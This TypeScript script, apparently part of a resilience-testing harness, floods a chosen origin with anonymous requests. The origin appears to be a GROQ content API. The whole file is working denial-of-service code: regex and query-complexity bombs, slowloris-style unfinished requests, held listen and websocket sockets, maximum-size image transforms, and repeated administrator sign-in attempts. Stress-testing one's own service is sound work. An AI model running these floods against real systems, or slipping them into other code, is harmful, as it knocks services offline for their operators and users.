/**
 * One flood of anonymous requests, until the process is ended: `node attack.ts NAME ORIGIN IMAGE`. It is a process of its own,
 * so that its work does not delay whoever measures.
 */
import { connect, type Socket } from 'node:net';

const [name = '', origin = '', image = ''] = process.argv.slice(2);
const { hostname, port, host } = new URL(origin);
const queryPath = '/v2025-02-19/data/query/production';

const ignore = (): void => {};

async function get(path: string, milliseconds = 60_000): Promise<void> {
  const signal = AbortSignal.timeout(milliseconds);
  const response = await fetch(`${origin}${path}`, { signal });
  await response.arrayBuffer();
}

function queryOf(groq: string, params: Readonly<Record<string, unknown>> = {}): string {
  const search = new URLSearchParams({ query: groq });
  for (const [each, value] of Object.entries(params)) {
    search.set(`$${each}`, JSON.stringify(value));
  }
  return `${queryPath}?${search}`;
}

async function forEver(work: () => Promise<void>): Promise<never> {
  for (;;) {
    await work().catch(ignore);
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

function loops(count: number, work: (index: number) => Promise<void>): void {
  for (let index = 0; index < count; index += 1) void forEver(() => work(index));
}

/** Sends bytes and never reads; comes again when it is cut. */
function socket(text: string): void {
  const opened: Socket = connect({ host: hostname, port: Number(port) });
  opened.on('error', ignore);
  opened.on('close', () => setTimeout(() => socket(text), 50));
  opened.pause();
  opened.write(text);
}

const repeated = (start: string, step: string, times: number): string => start + step.repeat(times);

const outOfBounds = [
  repeated('1', '+1', 4_500),
  `*[${repeated('true', '&&a==1', 900)}]`,
  repeated('*[0].a', '->', 190),
  repeated('{"a":[1,1]}', '{"a":[...a,...a]}', 26),
  `${repeated('{"s":"a"}', '{"s":s+s}', 24)}{"x":string::split(s,"")}`,
  repeated('(', '(', 2_000),
];

const nested = '*[count(*[references(^._id) && count(*[references(^._id)]) > 0]) >= 0]';

const floods: Readonly<Record<string, () => void>> = {
  match: () =>
    loops(16, () => get(queryOf('$t match $p', { t: 'a'.repeat(400), p: '*a*a*a*a*b' }))),
  bounds: () => loops(16, (index) => get(queryOf(outOfBounds[index % outOfBounds.length] ?? ''))),
  readers: () => {
    const query = `[${Array.from({ length: 15 }, () => '$s').join(',')}]`;
    const body = JSON.stringify({ query, params: { s: 'x'.repeat(1_000_000) } });
    const head = `POST ${queryPath} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
    const request = `${head}Content-Length: ${body.length}\r\n\r\n${body}`;
    for (let index = 0; index < 60; index += 1) socket(request);
  },
  images: () => {
    const effects = [
      'w=4096&h=4096&fit=crop&crop=entropy&fm=png&blur=2000',
      'w=4096&h=4096&fit=crop&fm=avif',
    ];
    let count = 0;
    void forEver(async () => {
      for (let index = 0; index < 200; index += 1) {
        const opened = connect({ host: hostname, port: Number(port) });
        opened.on('error', ignore);
        const path = `${image}?${effects[index % 2]}&sharp=${(count += 1) % 100}`;
        opened.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
        setTimeout(() => opened.destroy(), 300);
      }
      await new Promise((resolve) => setTimeout(resolve, 400));
    });
  },
  turns: () => {
    loops(3, () => get(queryOf(nested)));
    const search = new URLSearchParams({ query: nested });
    for (let index = 0; index < 5; index += 1) {
      void forEver(async () => {
        const response = await fetch(`${origin}/v2025-02-19/data/listen/production?${search}`);
        await response.arrayBuffer();
      });
    }
  },
  doors: () => {
    const search = new URLSearchParams({ query: '*' });
    const listen = `GET /v2025-02-19/data/listen/production?${search} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    for (let index = 0; index < 500; index += 1) socket(listen);
    const unfinished = `POST ${queryPath} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000\r\n\r\n{`;
    for (let index = 0; index < 2_000; index += 1) socket(unfinished);
    const upgrade = [
      'GET /v2022-06-30/socket/production HTTP/1.1',
      `Host: ${host}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    ];
    for (let index = 0; index < 300; index += 1) socket(`${upgrade.join('\r\n')}\r\n\r\n`);
    loops(8, async () => {
      const body = new URLSearchParams({
        name: 'Administrator',
        key: 'AAAAA-AAAAA-AAAAA-AAAAA-AAAAA',
      });
      const signal = AbortSignal.timeout(60_000);
      await fetch(`${origin}/v1/auth/sign-in`, { method: 'POST', body, signal });
    });
  },
};

const flood = floods[name];
if (flood === undefined) throw new Error(`No flood is named "${name}"`);
flood();
